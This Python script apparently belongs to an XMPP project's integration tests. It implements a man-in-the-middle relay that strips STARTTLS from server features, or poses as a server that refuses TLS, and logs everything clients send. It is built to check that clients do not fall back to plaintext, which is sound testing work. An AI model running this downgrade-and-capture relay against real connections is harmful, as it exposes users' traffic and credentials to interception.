#!/usr/bin/python3
"""mitm.py: an on-path attacker between an XMPP initiator and a server.

Part of portcullis's integration rig.  Listens on ADDR:PORT, connects
each client to TARGET_ADDR:TARGET_PORT and relays bytes, but before TLS:

  strip   removes <starttls/> from the server's <stream:features/>, then
          relays everything as is (a client that asks anyway gets TLS
          end to end through us);
  fail    plays the server itself (TARGET is ignored): answers the
          client's header with one of its own and features without
          <starttls/>, answers <starttls/> with <failure/>, and keeps the
          connection open, recording whatever the client sends next: a
          client that falls back to plaintext shows here.

Everything each client sent is appended to OUT (one file, all clients).

Usage: mitm.py MODE ADDR PORT TARGET_ADDR TARGET_PORT OUT
"""

import re
import selectors
import socket
import sys

STARTTLS = re.compile(rb"<starttls[^>]*?(/>|>.*?</starttls>)", re.S)
FAILURE = b"<failure xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"


def fake_server(st, data):
    """Answer as a server that 'has no TLS', and refuse STARTTLS."""
    st["sbuf"] += data
    if not st.get("answered") and b"<stream:stream" in st["sbuf"] and \
            b">" in st["sbuf"].split(b"<stream:stream", 1)[1]:
        m = re.search(rb"to=['\"]([^'\"]+)", st["sbuf"])
        frm = m.group(1) if m else b""
        st["c"].sendall(b"<?xml version='1.0'?><stream:stream "
                        b"xmlns='jabber:server' xmlns:stream="
                        b"'http://etherx.jabber.org/streams' xmlns:db="
                        b"'jabber:server:dialback' id='mitm' from='" +
                        frm + b"' version='1.0'><stream:features><dialback "
                        b"xmlns='urn:xmpp:features:dialback'/>"
                        b"</stream:features>")
        st["answered"] = True
    if b"<starttls" in st["sbuf"] and not st.get("failed"):
        st["c"].sendall(FAILURE)
        st["failed"] = True


def main():
    mode, addr, port, taddr, tport, out = sys.argv[1:7]
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    srv = socket.socket(fam, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, int(port)))
    srv.listen(16)
    log = open(out, "ab", buffering=0)
    sel = selectors.DefaultSelector()
    sel.register(srv, selectors.EVENT_READ, None)
    conns = {}          # socket -> state dict shared by the pair
    while True:
        for key, _ in sel.select():
            if key.data is None:
                c, _ = srv.accept()
                if mode == "fail":
                    st = {"c": c, "s": None, "tls": False, "sbuf": b""}
                    conns[c] = st
                    sel.register(c, selectors.EVENT_READ, "c")
                    continue
                try:
                    s = socket.create_connection((taddr, int(tport)), 10)
                except OSError:
                    c.close()
                    continue
                st = {"c": c, "s": s, "tls": False, "sbuf": b""}
                conns[c] = conns[s] = st
                sel.register(c, selectors.EVENT_READ, "c")
                sel.register(s, selectors.EVENT_READ, "s")
                continue
            sock = key.fileobj
            st = conns.get(sock)
            if st is None:
                continue
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:
                for x in (st["c"], st["s"]):
                    if x is None:
                        continue
                    if x in conns:
                        sel.unregister(x)
                        del conns[x]
                        x.close()
                continue
            if key.data == "c":
                log.write(data)
                if mode == "fail":
                    fake_server(st, data)
                    continue
                if not st["tls"] and b"<starttls" in data:
                    st["tls"] = True    # TLS from here on: hands off
                st["s"].sendall(data)
            else:
                if not st["tls"]:
                    st["sbuf"] += data
                    # Hold partial features so the tag cannot slip past.
                    if b"<stream:features" in st["sbuf"] and \
                            b"</stream:features>" not in st["sbuf"]:
                        continue
                    data = STARTTLS.sub(b"", st["sbuf"])
                    st["sbuf"] = b""
                st["c"].sendall(data)


if __name__ == "__main__":
    main()
